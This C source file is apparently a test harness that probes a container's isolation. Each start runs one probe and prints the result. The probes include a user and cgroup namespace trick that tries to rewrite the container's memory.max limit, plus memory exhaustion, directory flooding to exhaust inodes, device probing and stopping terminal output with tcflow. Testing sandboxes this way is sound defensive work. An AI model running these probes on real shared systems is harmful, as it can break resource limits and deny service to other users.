/* Attacks of a container on its machine, one for each start; prints the result. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <termios.h>
#include <unistd.h>

static const char *put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return strerror(errno);
    const char *result = write(fd, text, strlen(text)) < 0 ? strerror(errno) : "done";
    close(fd);
    return result;
}

static void mount_groups(const char *place) {
    mkdir(place, 0755);
    if (mount("none", place, "cgroup2", 0, ""))
        printf("mount: %s\n", strerror(errno));
}

/* New namespaces, in which we are root and see the group of the container as a root that can be written. */
static int lift(void) {
    unsigned uid = getuid(), gid = getgid();
    char text[64];
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) {
        printf("unshare: %s\n", strerror(errno));
        return 1;
    }
    put("/proc/self/setgroups", "deny");
    snprintf(text, sizeof text, "0 %u 1", uid);
    put("/proc/self/uid_map", text);
    snprintf(text, sizeof text, "0 %u 1", gid);
    put("/proc/self/gid_map", text);
    mount_groups("/tmp/groups");
    printf("once=%s\n", put("/tmp/groups/memory.max", "max"));
    /* A group below: seen from a namespace that begins there, the one above is no root of a namespace. */
    mkdir("/tmp/groups/below", 0755);
    printf("move=%s\n", put("/tmp/groups/below/cgroup.procs", "0"));
    if (unshare(CLONE_NEWCGROUP))
        printf("unshare: %s\n", strerror(errno));
    printf("twice=%s\n", put("/tmp/groups/memory.max", "max"));
    fflush(stdout);
    return 0;
}

/* Touches so many MiB. */
static int touch(const char *mebibytes) {
    for (unsigned long left = strtoul(mebibytes, 0, 10); left > 0; left--) {
        volatile char *memory = malloc(1 << 20);
        for (size_t at = 0; memory && at < 1 << 20; at += 4096)
            memory[at] = 1;
    }
    printf("touched=%s\n", mebibytes);
    return 0;
}

/* Makes empty directories for as long as it can. */
static int fill(void) {
    char name[32];
    unsigned count = 0;
    do
        snprintf(name, sizeof name, "/%u", count);
    while (mkdir(name, 0755) == 0 && ++count);
    printf("made=%s error=%s\n", count > 10000 ? "many" : name, strerror(errno));
    return 0;
}

int main(int count, char **words) {
    const char *what = count > 1 ? words[1] : "";
    const char *value = count > 2 ? words[2] : "";
    if (!strcmp(what, "lift"))
        return lift();
    if (!strcmp(what, "lift-and-touch"))
        return lift() || touch(value);
    if (!strcmp(what, "touch"))
        return touch(value);
    if (!strcmp(what, "fill"))
        return fill();
    if (!strcmp(what, "open")) {
        int fd = open(value, O_RDONLY | O_NONBLOCK);
        printf("%s=%s\n", value, fd < 0 ? strerror(errno) : "opened");
        return 0;
    }
    if (!strcmp(what, "ids")) {
        printf("ids=%u/%u no_new_privs=%d\n", getuid(), geteuid(), prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
        return 0;
    }
    if (!strcmp(what, "stop-output")) {
        int fd = open(value, O_RDWR | O_NOCTTY | O_NONBLOCK);
        printf("stopped=%s\n", fd < 0 || tcflow(fd, TCOOFF) ? strerror(errno) : "yes");
        return 0;
    }
    fprintf(stderr, "attack: %s: unknown\n", what);
    return 2;
}
